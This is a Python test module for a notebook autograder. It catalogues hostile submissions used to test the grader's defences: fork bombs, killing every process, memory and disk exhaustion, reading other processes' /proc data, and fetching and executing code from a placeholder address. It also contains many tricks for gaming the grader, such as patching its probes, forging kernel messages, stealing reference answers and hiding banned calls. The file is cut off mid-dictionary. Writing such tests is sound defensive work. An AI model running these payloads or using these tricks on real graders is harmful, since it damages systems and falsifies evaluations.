"""Hostile and malformed submissions, and what each may get at most.

In: a place to write one to. Out: a folder, a zip or a notebook there. An attack that looks for something (an answer, a
way out, memory that nobody counts) gives right answers where it finds it, so that its points tell.
"""

import base64
import io
import json
import os
import stat
import struct
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from textwrap import dedent, indent

ROOT = Path(__file__).resolve().parent.parent
TEXTS = {path.stem: path.read_text(encoding="utf-8").partition("\n#| exercise: ")[2].partition("\n")[2]
         for path in (ROOT / "solutions" / "work").glob("*.py")}
RIGHT = TEXTS["gamma_func"]
NOTEBOOKS = {"multi_head_attention": "01_multi_head_attention.ipynb", "train_one_epoch": "03_training.ipynb",
             "gamma_func": "04_gamma_schedules.ipynb"}
FULL = {"multi_head_attention": 15, "train_one_epoch": 9, "gamma_func": 4}
WRITTEN = "written_by_an_answer"  # the name of every file that an attack tries to leave
MIME = "application/vnd.lab3.observation"
SECRET = "SECRETTEXT"  # the beginning of every text that an attack tries to get into the results


@dataclass(frozen=True)
class Place:
    """What an attack may know: where to write it, a mark for what it starts, an address where answers are served."""

    path: Path
    mark: str = "97531.0"
    address: str = "127.0.0.1:9"
    elsewhere: Path = Path("/nowhere")


@dataclass(frozen=True)
class Attack:
    """A submission: what it tries, the exercise it aims at, its points there; `points` None: all of them."""

    about: str
    build: Callable
    exercise: str = "gamma_func"
    points: float | None = 0

    @property
    def due(self):
        return FULL[self.exercise] if self.points is None else self.points


ATTACKS = {}


def attack(about, exercise="gamma_func", points=0, name=None):
    """Decorator: register a builder under its name."""
    def register(build):
        ATTACKS[name or build.__name__] = Attack(about, build, exercise, points)
        return build

    return register


# Notebooks


def cell(source, kind="code", **more):
    return {"cell_type": kind, "id": "a", "metadata": {}, "source": source, **more} | (
        {"outputs": [], "execution_count": None} if kind == "code" and "outputs" not in more else {})


def marked(text, exercise="gamma_func"):
    return f"#| exercise: {exercise}\n{text}"


def notebook(*cells):
    cells = [cell(one) if isinstance(one, str) else one for one in cells]
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells})


def folder(path, text, exercise="gamma_func"):
    """A submission of one notebook, given as its text or bytes."""
    path.mkdir()
    (path / NOTEBOOKS[exercise]).write_bytes(text if isinstance(text, bytes) else text.encode())


def solved(path):
    """An honest submission."""
    folder(path, notebook(*(marked(text, exercise) for exercise, text in sorted(TEXTS.items()))))


WRONG = 'def gamma_func(mode="cosine"):\n    return lambda ratio: 0.5\n'


def body(text, depth=1):
    return indent(dedent(text).strip(), "    " * depth)


def at_load(text):
    """An answer that does something when its cell runs; what `attack` returns then is gamma_func, None a wrong one."""
    return f'''\
def attack():
{body(text)}

found = attack()

def gamma_func(mode="cosine"):
    return found(mode) if found else lambda ratio: 0.5
'''


def at_call(text):
    """An answer that does something when its schedule is called, and returns it or a wrong number."""
    return f'''\
def attack(ratio, mode):
{body(text)}

def gamma_func(mode="cosine"):
    def gamma(ratio):
        value = attack(ratio, mode)
        return 0.5 if value is None else value
    return gamma
'''


def answers(make, texts, exercise="gamma_func", points=0):
    """Register attacks that are one answer each: name -> (about, text)."""
    for name, (about, text) in texts.items():
        def build(place, text=text):
            text = text.replace("{mark}", place.mark).replace("{address}", place.address)
            text = text.replace("{root}", str(ROOT)).replace("{elsewhere}", str(place.elsewhere))
            folder(place.path, notebook(marked(make(text), exercise)), exercise)

        attack(about, exercise, points, name)(build)


# What the grader trusts


@attack("a comment that makes nbval skip a cell")
def skip_comment(place):
    folder(place.path, notebook("# NBVAL_SKIP\n" + marked(WRONG)))


@attack("tags that make nbval expect exceptions or ignore outputs")
def tags(place):
    tagged = cell(marked(WRONG), metadata={"tags": ["raises-exception", "nbval-ignore-output", "nbval-skip"]})
    folder(place.path, notebook(tagged))


@attack("outputs of the grader's kind stored in the notebook")
def stored_outputs(place):
    made = {"output_type": "display_data", "metadata": {}, "data": {MIME: '{"seen": null}'}}
    folder(place.path, notebook(cell(marked(WRONG), outputs=[made] * 3, execution_count=1)))


@attack("cells with the ids and magics of the graded notebook")
def graded_cells(place):
    folder(place.path, notebook(
        cell(marked(WRONG), id="answer-gamma_func"),
        cell("%%probe gamma_func linear_curve 1\npass", id="probe-linear_curve"),
        cell("%%answer gamma_func\n" + RIGHT.replace("gamma_func", "other")), cell("check = True", id="check")))


answers(at_load, {
    "ast_hook": ("drops asserts and rewrites cells in the kernel", """
        import ast
        class Hook(ast.NodeTransformer):
            def visit_Module(self, node): return ast.parse("pass")
        get_ipython().ast_transformers.append(Hook())
    """),
    "magics": ("registers answer, probe and check again", """
        import json
        from IPython.display import display
        def forged(line, text): display({"application/vnd.lab3.observation": json.dumps({"seen": True})}, raw=True)
        for name in ("answer", "probe", "check"):
            get_ipython().register_magic_function(forged, "cell", name)
    """),
    "input_hook": ("rewrites the source of the cells that follow", """
        get_ipython().input_transformers_cleanup.append(lambda lines: ["print('nothing')\\n"])
    """),
    "display_replaced": ("replaces display by one that says another thing", """
        import IPython.display, IPython.core.display_functions as functions
        def forged(*args, **options):
            return functions.publish_display_data({"application/vnd.lab3.observation": "true"})
        IPython.display.display = functions.display = forged
    """),
    "comparisons": ("patches what could compare", """
        import json, base64
        torch.allclose = np.isclose = np.allclose = np.array_equal = lambda *a, **o: True
        json.loads = lambda *a, **o: {"seen": True}
        base64.b64encode = lambda *a, **o: b""
    """),
    "probes_patched": ("patches the functions that observe", """
        import sys
        sys.modules["lab3_probes"].observe = lambda *a, **o: {"seen": []}
        sys.modules["lab3_probes"].Draw.number = lambda *a: 0.0
    """),
    "trace": ("traces all calls to find right values", """
        import sys
        kept = []
        def watch(frame, event, argument):
            kept.extend(value for name, value in frame.f_locals.items() if name in ("right", "rights"))
            return watch
        sys.settrace(watch)
        if kept: return lambda mode: lambda ratio: kept[0]
    """),
    "garbage": ("looks for right values and other answers among all objects", """
        import gc, types
        for one in gc.get_objects():
            if isinstance(one, types.FunctionType) and one.__name__ == "gamma_func": return one
            if isinstance(one, dict) and "rights" in one: return lambda mode: lambda ratio: one["rights"]
    """),
})


# Messages of the grader's kind, and others, sent by the answer


PUBLISH = """
from ipykernel.kernelapp import IPKernelApp
kernel = IPKernelApp.instance().kernel
def publish(text, **more):
    content = {"data": {"application/vnd.lab3.observation": text}, "metadata": {}, "transient": {}} | more
    kernel.session.send(kernel.iopub_socket, "display_data", content, parent=kernel.get_parent(), ident=b"display_data")
"""


def talker(text):
    return at_load(PUBLISH + dedent(text))


answers(talker, {
    "atexit_forger": ("forges observations when the kernel ends and from a thread", """
        import atexit, threading, time
        def forge():
            for _ in range(300):
                publish('{"seen": {"values": [1.0, 0.0], "calls": []}}'); time.sleep(0.01)
        atexit.register(publish, '{"seen": true}')
        threading.Thread(target=forge, daemon=True).start()
    """),
    "messages_without_keys": ("sends messages that lack what they should hold", """
        send = kernel.session.send
        def forged(stream, kind, content=None, parent=None, *args, **options):
            if kind == "status" and parent: send(stream, "display_data", {}, parent, *args, **options)
            return send(stream, kind, content, parent, *args, **options)
        kernel.session.send = forged
    """),
    "messages_of_wrong_types": ("sends messages whose parts are of other types", """
        send = kernel.session.send
        def forged(stream, kind, content=None, parent=None, *args, **options):
            if kind == "status" and parent:
                send(stream, "stream", {"name": 3, "text": [None]}, parent, *args, **options)
                send(stream, "display_data", {"data": [1], "metadata": 3}, parent, *args, **options)
            return send(stream, kind, content, parent, *args, **options)
        kernel.session.send = forged
    """),
    "messages_of_nobody": ("sends messages whose parent is a list", """
        send = kernel.session.send
        def forged(stream, kind, content=None, parent=None, *args, **options):
            if kind == "status" and parent: send(stream, "status", {}, [[1]], *args, **options)
            return send(stream, kind, content, parent, *args, **options)
        kernel.session.send = forged
        import jupyter_client.session as session
        session.extract_header = lambda parent: parent if isinstance(parent, list) else parent.get("header", parent)
    """),
    "never_idle": ("never says that a cell is done, and keeps talking", """
        import threading, time
        send = kernel.session.send
        def forged(stream, kind, content=None, *args, **options):
            if kind != "status": return send(stream, kind, content, *args, **options)
        kernel.session.send = forged
        def talk():
            while True: publish("{}"); time.sleep(0.2)
        threading.Thread(target=talk, daemon=True).start()
    """),
    "metadata": ("sends messages that are all metadata", """
        for _ in range(30):
            kernel.session.send(kernel.iopub_socket, "display_data", {"data": {}, "metadata": {}}, kernel.get_parent(),
                                metadata={"large": "x" * 15_000_000})
    """),
    "lists": ("sends messages whose content is millions of empty lists", """
        for _ in range(30):
            kernel.session.send(kernel.iopub_socket, "display_data", {"data": {"text": [[]] * 3_000_000},
                                "metadata": {}}, kernel.get_parent())
    """),
    "buffers": ("sends messages with buffers that nobody asked for", """
        for _ in range(30):
            kernel.session.send(kernel.iopub_socket, "display_data", {"data": {}, "metadata": {}}, kernel.get_parent(),
                                buffers=[bytes(15_000_000)])
    """),
    "large_observations": ("sends a large observation with each cell", """
        import sys
        sys.modules["lab3_probes"].encode = lambda result: '{"seen": "' + "x" * 9_000_000 + '"}'
    """),
    "flood": ("sends a message that takes long to read, and gigabytes behind it", """
        import time
        def raw(text, *buffers):
            message = kernel.session.msg("stream", {"name": "stdout", "text": text}, kernel.get_parent())
            return [b"stream", *kernel.session.serialize(message), *buffers]
        large = bytes(200_000_000)
        kernel.iopub_socket.send_multipart(raw([[]] * 10_000_000))
        for _ in range(14): kernel.iopub_socket.send_multipart(raw("", large), copy=False)
        time.sleep(5)
    """),
})


def forger(expression):
    """Whatever a probe observes, the kernel sends the text that this expression makes."""
    return at_load(f"""
import sys
text = {expression}
sys.modules["lab3_probes"].encode = lambda result: text if result != {{"seen": None}} else '{{"seen": null}}'
""")


answers(forger, {
    "forged_array": ("an array that claims 10^12 elements",
                     """'{"seen": {"array": ["float32", [1000000, 1000000], "AAAA"]}}'"""),
    "forged_shape": ("an array whose shape is made of huge numbers",
                     """'{"seen": {"array": ["float32", [' + ", ".join(["9" * 4000] * 1500) + '], ""]}}'"""),
    "forged_base64": ("an array whose bytes are none", """'{"seen": {"array": ["float32", [1], "!!?"]}}'"""),
    "forged_dtype": ("an array of Python objects", """'{"seen": {"array": ["object", [1], "AAAAAAAAAAA="]}}'"""),
    "forged_json": ("text that is no JSON", """'{"seen": '"""),
    "forged_kind": ("JSON that is no observation", """'[1, 2, 3]'"""),
    "forged_bytes": ("an observation that is no text", """{"seen": [1]}"""),
    "forged_nan": ("NaN everywhere",
                   """'{"seen": {"values": [NaN, NaN], "ratio": NaN, "modes": NaN, "calls": [NaN]}}'"""),
    "forged_depth": ("JSON nested a million deep", """'{"seen": ' + "[" * 1_000_000"""),
    "forged_error": ("an error that is no description",
                     """'{"error": {"type": ["x"], "text": {"a": NaN}, "line": 1e300}}'"""),
    "forged_type": ("an error whose type is half a character",
                    r"""'{"error": {"type": "\ud800", "text": "\ud800", "line": true}}'"""),
    "forged_size": ("thirty megabytes of empty lists", """'{"seen": [' + "[]," * 10_000_000 + "[]]}" """),
})


# Limits of the machine and of time


answers(at_load, {
    "empty_files": ("makes empty files without end", """
        import os
        for number in range(10_000_000): os.close(os.open(str(number), os.O_CREAT | os.O_WRONLY))
    """),
    "full_sockets": ("fills the buffers of sockets in many processes", """
        import os, socket, time
        for _ in range(12):
            if os.fork() == 0: break
        kept = []
        while True:
            try:
                kept += socket.socketpair()
                kept[-1].setblocking(False)
                while True: kept[-1].send(bytes(1 << 16))
            except OSError: time.sleep(0.01)
    """),
})


answers(at_call, {
    "sleeper": ("waits in each cell nearly as long as it may", """
        import time
        time.sleep(8)
    """),
})


# Answers from elsewhere: where an attack finds one, it uses it

answers(at_load, {
    "read_solutions": ("reads the reference answer where the project has it", """
        names = {}
        for path in ("{root}/solutions/work/gamma_func.py", "/proc/1/root{root}/solutions/work/gamma_func.py",
                     "/proc/self/cwd/../../../../..{root}/solutions/work/gamma_func.py"):
            try: exec(open(path).read(), globals(), names)
            except OSError: pass
        return names.get("gamma_func")
    """),
    "load_answers": ("lets lab3 load the reference answers", """
        try:
            from lab3.common.paths import SOLUTIONS
            return lab3.exercises.answers.load_answers(SOLUTIONS).gamma_func
        except Exception: pass
    """),
    "import_grader": ("imports the grader and asks it", """
        import sys
        sys.path[:0] = ["{root}", "{root}/tests"]
        names = {}
        try:
            from grader.run.context import reference_texts
            exec(reference_texts()["gamma_func"], globals(), names)
        except Exception: pass
        try:
            import attacks
            exec(attacks.RIGHT, globals(), names)
        except Exception: pass
        return names.get("gamma_func")
    """),
    "search_disk": ("searches all folders for files that define the answer", """
        import os
        for folder, folders, files in os.walk("/"):
            folders[:] = [one for one in folders if os.path.join(folder, one) not in ("/proc", "/usr", "/sys")
                          and one not in ("torch", "nvidia", "scipy")]
            for file in files:
                if file.endswith((".py", ".ipynb", ".txt")) and "gamma" in file:
                    text, names = open(os.path.join(folder, file)).read(), {}
                    if "def gamma_func" in text:
                        try: exec(text, globals(), names)
                        except Exception: pass
                        if "gamma_func" in names: return names["gamma_func"]
    """),
    "other_processes": ("looks into the memory, the folders and the environment of other processes", """
        import os
        for pid in filter(str.isdigit, os.listdir("/proc")):
            for part in ("environ", "cmdline", "fd/3", "root{elsewhere}", "cwd/solutions/work/gamma_func.py",
                         "root{root}/solutions/work/gamma_func.py"):
                try: text = open(f"/proc/{pid}/{part}", "rb").read(100_000)
                except OSError: continue
                if b"def gamma_func" in text or b"ATTACKED" in text or b"LAB3_MARK" in text:
                    return lambda mode: {"linear": lambda r: 1 - r, "square": lambda r: 1 - r * r}.get(
                        mode, lambda r: np.cos(np.pi * r / 2))
    """),
    "network": ("downloads an answer", """
        import urllib.request, socket
        names = {}
        try: exec(urllib.request.urlopen("http://{address}/", timeout=1).read().decode(), globals(), names)
        except OSError: pass
        return names.get("gamma_func")
    """),
    "left_by_another": ("leaves its answer where another kernel may find it, and looks for one", """
        import os
        names, folders = {}, ("/tmp", "/dev/shm", "/var/tmp", "/run", "{elsewhere}", "{root}", "/dev/mqueue", ".")
        paths = [os.path.join(folder, "written_by_an_answer") for folder in folders]
        for path in paths:
            try: exec(open(path).read(), globals(), names)
            except OSError: pass
        for path in paths:
            try: open(path, "w").write("def gamma_func(mode='cosine'): return lambda ratio: 1 - ratio")
            except OSError: pass
        return names.get("gamma_func")
    """),
    "new_namespace": ("takes a user namespace of its own to mount and see more", """
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        if os.fork() == 0:
            libc.unshare(0x10000000 | 0x00020000)
            os._exit(libc.mount(b"none", b"/dev/shm", b"tmpfs", 0, b"size=100g"))
        if os.wait()[1] == 0:
            return lambda mode: lambda r: {"linear": 1 - r, "square": 1 - r * r}.get(mode, np.cos(np.pi * r / 2))
    """),
})
answers(at_call, {
    "frames": ("looks for right values in all frames above it", """
        import sys
        frame = sys._getframe()
        while frame:
            for name in ("right", "rights", "wanted", "expected"):
                for names in (frame.f_locals, frame.f_globals):
                    if name in names: return names[name]
            frame = frame.f_back
    """),
    "always_equal": ("an object that equals everything", """
        class Any:
            dtype, shape, ndim = np.dtype("float64"), (), 0
            def __eq__(self, other): return True
            def __lt__(self, other): return True
            __gt__ = __le__ = __ge__ = __lt__
            def __float__(self): return 0.5
            def copy(self): return self
            def __hash__(self): return 0
        return Any()
    """),
    "nan": ("NaN for everything", "return float('nan') if isinstance(ratio, float) else ratio * float('nan')"),
})


# Ready-made attention

LINEAR = """
class MultiHeadAttention(nn.Module):
    def __init__(self, dim=768, num_heads=16, attn_drop=0.1):
        super().__init__()
        if dim % num_heads:
            raise ValueError("dim must be a multiple of num_heads")
        self.query, self.key, self.value, self.output = (nn.Linear(dim, dim) for _ in range(4))
        self.attn_drop, self.num_heads = nn.Dropout(attn_drop), num_heads

    def forward(self, x):
        q, k, v = (f(x).unflatten(-1, (self.num_heads, -1)).transpose(1, 2) for f in (self.query, self.key, self.value))
        drop = self.attn_drop.p if self.training else 0.0
        return self.output(BODY.transpose(1, 2).flatten(2))
"""
READY = "(q, k, v, dropout_p=drop)"


def with_body(body):
    before, _, body = body.rpartition("---")
    return before + LINEAR.replace("BODY", body.strip())


answers(with_body, {
    "attention_plain": ("calls ready-made attention", f"F.scaled_dot_product_attention{READY}"),
    "attention_getattr": ("its name in two parts", f'getattr(F, "scaled_dot_" + "product_attention"){READY}'),
    "attention_reversed": ("its name backwards", f'getattr(F, "noitnetta_tcudorp_tod_delacs"[::-1]){READY}'),
    "attention_listed": ("found among all names of a module", f"""
        [getattr(F, name) for name in dir(F) if name.startswith("scaled_dot")][0]{READY}"""),
    "attention_ops": ("the operator below it", """
        getattr(torch.ops.aten, "scaled_dot_prod" + "uct_attention")(q, k, v, None, drop)"""),
    "attention_eval": ("an expression kept as base64", f"""
        eval(__import__("base64").b64decode("{base64.b64encode(b'F.scaled_dot_product_attention').decode()}")){READY}"""),
    "attention_profile": ("another result while a profiler looks on", f"""
        (v if __import__("sys").getprofile() else getattr(F, "noitnetta_tcudorp_tod_delacs"[::-1]){READY})"""),
    "attention_stack": ("another result for the probe that looks for it", f"""
import sys
def watched():
    frame = sys._getframe()
    while frame:
        if "ready" in frame.f_code.co_name: return True
        frame = frame.f_back
---
        (v if watched() else getattr(F, "noitnetta_tcudorp_tod_delacs"[::-1]){READY})"""),
    "attention_thread": ("ready-made attention in a thread that nobody profiles", f"""
from concurrent.futures import ThreadPoolExecutor
def elsewhere(q, k, v, drop):
    with ThreadPoolExecutor(1) as pool:
        grad = torch.is_grad_enabled()
        def run():
            with torch.set_grad_enabled(grad):
                return getattr(F, "noitnetta_tcudorp_tod_delacs"[::-1]){READY}
        return pool.submit(run).result()
---
        elsewhere(q, k, v, drop)"""),
    "attention_dict": ("found among the names of a module, by its dictionary", f"""
        [f for name, f in F.__dict__.items() if name.startswith("scaled_dot")][0]{READY}"""),
    "attention_subclasses": ("found among the subclasses of a layer", """
class Same(nn.Module):
    pass
def ready(q, k, v, drop):
    kind = [one for one in nn.Module.__subclasses__() if one.__name__ == "Multihead" + "Attention"][0]
    one = kind(12, 1, bias=False, batch_first=True)
    return one(q[:, 0], k[:, 0], v[:, 0])[0][:, None]
---
        ready(q, k, v, drop)"""),
    "attention_frames": ("puts back what was taken away, through the frames of a traceback", f"""
def put_back():
    try:
        raise ValueError
    except ValueError as error:
        frame = error.__traceback__.tb_frame
    while frame:
        for one in [*frame.f_locals.values(), *frame.f_globals.values()]:
            if hasattr(one, "_destroy"):
                one._destroy()
        frame = frame.f_back
put_back()
---
        (put_back(), getattr(F, "noitnetta_tcudorp_tod_delacs"[::-1]){READY})[1]"""),
    "attention_garbage": ("puts back what was taken away, through the garbage collector", f"""
import gc
for one in gc.get_objects():
    if type(one).__name__ == "Library":
        one._destroy()
---
        getattr(F, "noitnetta_tcudorp_tod_delacs"[::-1]){READY}"""),
    "attention_decomposed": ("the operator's parts, as PyTorch's own dispatcher has them", """
        getattr(torch.ops.aten, "htam_noitnetta_tcudorp_tod_delacs_"[::-1]).default.decompose(q, k, v)[0]"""),
    "attention_flex": ("attention that PyTorch has in Python", """
from importlib import import_module
flex = getattr(import_module("torch.nn.att" + "ention.flex_att" + "ention"), "flex_att" + "ention")
---
        flex(q, k, v)"""),
    "attention_weights": ("the layer's way in Python, which gives the weights, too", """
def ready(q, k, v):
    f = getattr(F, "drawrof_noitnetta_daeh_itlum"[::-1])
    D, eye = q.shape[-1], torch.eye(q.shape[-1])
    B, H, T, _ = q.shape
    q, k, v = (one.flatten(0, 1).transpose(0, 1) for one in (q, k, v))
    y = f(q, k, v, D, 1, eye.repeat(3, 1), None, None, None, False, 0.0, eye, None, need_weights=True)[0]
    return y.transpose(0, 1).view(B, H, T, D)
---
        ready(q, k, v)"""),
    "attention_report": ("changes what the probe has noted", """
import sys
def hide(q):
    frame = sys._getframe()
    while frame:
        if isinstance(frame.f_locals.get("names"), set):
            sys.setprofile(None); frame.f_locals["names"].clear()
            sys.modules["lab3_probes"].encode = lambda result: '{"seen": []}'
        frame = frame.f_back
    return q
---
        getattr(F, "noitnetta_tcudorp_tod_delacs"[::-1])(hide(q), k, v, dropout_p=drop)"""),
}, "multi_head_attention")


@attack("a subclass of the attention that lab3 has for the later notebooks", "multi_head_attention")
def attention_stand_in(place):
    folder(place.path, notebook(marked("""
import importlib
base = getattr(importlib.import_module("lab3.exercises." + "".join(("fall", "backs"))), "Torch" "Attention"[:9])
class MultiHeadAttention(base):
    pass
""", "multi_head_attention")), "multi_head_attention")


# Answers that bring along what the grader gives

SMUGGLED = """
def sample_mask(*a, **o):
    return torch.ones(a[0], a[1], dtype=torch.bool)

def mvtm_loss(*a, **o):
    return a[0].sum() * 0
"""


@attack("a right training with other definitions of what it builds on: the grader's count", "train_one_epoch", None)
def smuggled(place):
    text = marked(f"{SMUGGLED}\n\n{TEXTS['train_one_epoch']}", "train_one_epoch")
    folder(place.path, notebook(text), "train_one_epoch")


@attack("a training that trains nothing and replaces what it builds on", "train_one_epoch")
def smuggled_instead(place):
    text = """
def attack():
    import sys
    for space in sys.modules["lab3_probes"].namespaces.values():
        space["mvtm_loss"] = lambda logits, *a, **o: logits.sum() * 0
    return sys.modules["lab3_probes"].namespaces

kept = attack()

def train_one_epoch(transformer, loader, optimizer, scheduler, **options):
    kept
    return 0.0
"""
    folder(place.path, notebook(marked(SMUGGLED + text, "train_one_epoch")), "train_one_epoch")


# Texts that should not come out

HALF = len(SECRET) // 2
TOLD = f"{SECRET[:HALF]!r} + {SECRET[HALF:]!r}"  # not as a whole in the code: lines of the student's own may be shown
answers(at_call, {
    "exfil_type": ("a result whose type is called as it likes", f"return type({TOLD}, (), {{}})()"),
    "exfil_error": ("an exception whose type and text say something",
                    f"""raise type({TOLD}, (ValueError,), {{"__module__": "builtins"}})({TOLD} + str(ratio))"""),
    "exfil_name": ("a NameError about a name it never used",
                   f"""raise NameError(f"name '{{{TOLD}}}' is not defined")"""),
    "exfil_shape": ("a result whose shape spells a text", "return np.zeros((0, 83, 69, 67, 82, 69, 84, 84, 69))"),
    "exfil_huge": ("an exception with a text of 100 MB", "raise ValueError('mode ' * 20_000_000)"),
    "exfil_large": ("a result of 200 MB", "return np.zeros(25_000_000) if isinstance(ratio, np.ndarray) else 0.5"),
})


@attack("mode_refused gets an exception whose type is called as it likes")
def exfil_refused(place):
    folder(place.path, notebook(marked(f"""
def gamma_func(mode="cosine"):
    raise type({TOLD} + str(mode), (Exception,), {{"__module__": "builtins"}})(mode)
""")))


@attack("a training that raises the source of the reference answers it builds on", "train_one_epoch")
def exfil_source(place):
    folder(place.path, notebook(marked("""
def train_one_epoch(transformer, loader, optimizer, scheduler, *, mask_token_id, device, scaler=None, generator=None):
    import inspect, linecache
    text = inspect.getsource(sample_mask) + inspect.getsource(mvtm_loss)
    raise ValueError(text)
""", "train_one_epoch")), "train_one_epoch")


@attack("a training that raises exceptions named after the lines of the reference answers", "train_one_epoch")
def exfil_lines(place):
    folder(place.path, notebook(marked("""
import sys

def lines():
    text = sys.modules["linecache"].getlines("mvtm_loss.py")
    while True:
        for line in text:
            if len(line.strip()) > 20:
                yield line.strip()

source = lines()

def train_one_epoch(transformer, loader, optimizer, scheduler, *, mask_token_id, device, scaler=None, generator=None):
    raise type(next(source), (Exception,), {"__module__": "builtins"})()
""", "train_one_epoch")), "train_one_epoch")


# More than its share of time, memory, processes, disk

STUBBORN = """
while True:
    try:
        while True: pass
    except BaseException: pass
"""

answers(at_load, {
    "loop": ("runs for ever", "while True: pass"),
    "loop_stubborn": ("runs for ever and swallows every exception, KeyboardInterrupt too", STUBBORN),
    "sleep": ("sleeps", "import time; time.sleep(10_000)"),
    "deaf": ("ignores signals, then sleeps", """
        import signal, time
        for number in range(1, 32):
            try: signal.signal(number, signal.SIG_IGN)
            except OSError: pass
        time.sleep(10_000)
    """),
    "fork_bomb": ("forks without end", """
        import os
        while True:
            try: os.fork()
            except OSError: pass
    """),
    "thread_bomb": ("starts threads without end", """
        import threading, time
        while True:
            try: threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
            except RuntimeError: time.sleep(0.1)
    """),
    "memory_list": ("fills memory with lists", """
        kept = []
        while True: kept.append([0] * 10_000_000)
    """),
    "memory_tensor": ("fills memory with tensors", """
        kept = []
        while True: kept.append(torch.ones(25_000_000))
    """),
    "memory_files": ("fills memory with files that have no name and belong to no folder", """
        import os, time
        kept, block = [], b"1" * (1 << 20)
        for number in range(26):
            kept.append(os.memfd_create("more"))
            try:
                for _ in range(60): os.write(kept[-1], block)
            except OSError: pass
        if sum(os.fstat(one).st_size for one in kept) > 1_500_000_000:
            return lambda mode: lambda r: {"linear": 1 - r, "square": 1 - r * r}.get(mode, np.cos(np.pi * r / 2))
    """),
    "memory_shared": ("fills memory with segments that no process maps", """
        import ctypes, time
        libc = ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = ctypes.c_void_p
        filled = 0
        for number in range(5):
            segment = libc.shmget(0, ctypes.c_size_t(256 << 20), 0o1600)
            place = libc.shmat(segment, None, 0)
            if segment < 0 or place in (None, ctypes.c_void_p(-1).value): break
            ctypes.memset(place, 1, 256 << 20)
            libc.shmdt(ctypes.c_void_p(place))
            filled += 256
        if filled > 1200:
            return lambda mode: lambda r: {"linear": 1 - r, "square": 1 - r * r}.get(mode, np.cos(np.pi * r / 2))
    """),
    "disk": ("fills every folder it can write to", """
        import os
        for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "{elsewhere}"):
            for number in range(100):
                try: open(f"{folder}/written_by_an_answer_{number}", "wb").write(b"1" * (60 << 20))
                except OSError: break
    """),
    "print": ("prints without end", "while True: print('x' * 100_000)"),
    "print_past": ("prints without end past what keeps it quiet", """
        import sys, os
        from ipykernel.iostream import OutStream
        from ipykernel.kernelapp import IPKernelApp
        kernel = IPKernelApp.instance().kernel
        while True: kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "x" * 1_000_000})
    """),
    "recursion": ("recurs without end", """
        import sys
        sys.setrecursionlimit(10**9)
        def deep(): return deep()
        return deep()
    """),
    "exit": ("exits", "import sys; sys.exit(0)"),
    "exit_now": ("exits at once", "import os; os._exit(0)"),
    "abort": ("aborts", "import os; os.abort()"),
    "segfault": ("reads where nothing is", "import ctypes; ctypes.string_at(0)"),
    "kill_all": ("kills every process it may", "import os; os.kill(-1, 9)"),
    "kill_each": ("kills its parent, the first processes, and itself", """
        import os
        for pid in (os.getppid(), 1, 2, 3, *range(4, 30)):
            try: os.kill(pid, 9) if pid and pid != os.getpid() else None
            except OSError: pass
        os.kill(os.getpid(), 9)
    """),
    "stop_itself": ("stops itself", "import os, signal; os.kill(os.getpid(), signal.SIGSTOP)"),
    "daemon": ("leaves a daemon", """
        import os
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0: os.execvp("sleep", ["sleep", "{mark}"])
            os._exit(0)
    """),
    "close_files": ("closes all its files", "import os; os.closerange(0, 1000)"),
    "sockets_removed": ("removes the sockets", """
        import glob, os
        for path in glob.glob("/dev/shm/k-*"): os.remove(path)
        os._exit(0)
    """),
    "sockets_linked": ("puts links in the place of the sockets", """
        import glob, os
        for path in glob.glob("/dev/shm/k-*"):
            os.remove(path)
            os.symlink("{elsewhere}/written_by_an_answer", path)
        raise SystemExit
    """),
    "patch_nothing_left": ("removes builtins and modules", """
        import sys, builtins
        for name in ("display", "len", "isinstance", "open", "print", "getattr", "type"):
            builtins.__dict__.pop(name, None)
        sys.modules.clear()
    """),
})
answers(at_call, {
    "call_stubborn": ("runs for ever in every call", STUBBORN),
    "call_exit": ("exits in every call", "import os; os._exit(0)"),
    "call_system_exit": ("raises SystemExit in every call", "raise SystemExit(0)"),
    "call_interrupt": ("raises KeyboardInterrupt in every call", "raise KeyboardInterrupt"),
    "call_base": ("raises its own kind of BaseException in every call", "raise type('Odd', (BaseException,), {})()"),
    "call_unprintable": ("raises an exception that cannot be printed", """
        class Odd(Exception):
            def __str__(self): raise self
            __repr__ = __str__
        raise Odd
    """),
    "call_endless_text": ("raises an exception whose text takes for ever", """
        class Odd(ValueError):
            def __str__(self):
                while True: pass
        raise Odd
    """),
})


@attack("a right answer beside a thread that spins", points=None)
def spinning(place):
    folder(place.path, notebook(marked(f"""
import threading

def spin():
    while True: pass

def spins(made):
    threading.Thread(target=spin, daemon=True).start()
    return made

{RIGHT}

gamma_func = spins(gamma_func)
""")))


# Notebooks that are none, or odd

HONEST = notebook(marked(RIGHT))


def notebooks(points, texts):
    """Register submissions of one notebook: name -> (about, its text, its bytes, or a function that makes them)."""
    for name, (about, text) in texts.items():
        def build(place, text=text):
            folder(place.path, text() if callable(text) else text)

        attack(about, points=points, name=name)(build)


notebooks(0, {
    "json_broken": ("no JSON", HONEST[:-20]),
    "json_empty": ("nothing", ""),
    "json_list": ("a list", f"[{HONEST}]"),
    "json_number": ("a number", "1" * 5000),
    "cells_missing": ("no cells", '{"nbformat": 4, "metadata": {}}'),
    "cells_dict": ("cells that are a dict", '{"cells": {"source": "x"}, "nbformat": 4}'),
    "cells_odd": ("cells that are no dicts",
                  '{"cells": [1, null, "x", [], {"source": 3}, {"cell_type": []}], "nbformat": 4}'),
    "nested_json": ("JSON nested too deep", "[" * 1_000_000),
    "nested_python": ("Python nested too deep", lambda: notebook(marked(WRONG + "x = " + "(" * 5000 + ")" * 5000))),
    "nested_minus": ("an expression of 100,000 signs", lambda: notebook(marked(WRONG + "x = " + "-" * 100_000 + "1"))),
    "nested_power": ("a number that takes for ever to compute", notebook(marked(WRONG + "x = 9 ** 9 ** 9 ** 9\n"))),
    "source_number": ("a source that is a number", notebook(cell(3), cell(None), cell([1, None]))),
    "source_null": ("null bytes and half characters", notebook(
        marked(RIGHT + "\x00"), marked(RIGHT.replace("mode", "\ud800")))),
    "cell_huge": ("a cell of 3 MB", lambda: notebook(marked(RIGHT + "# x\n" * 800_000))),
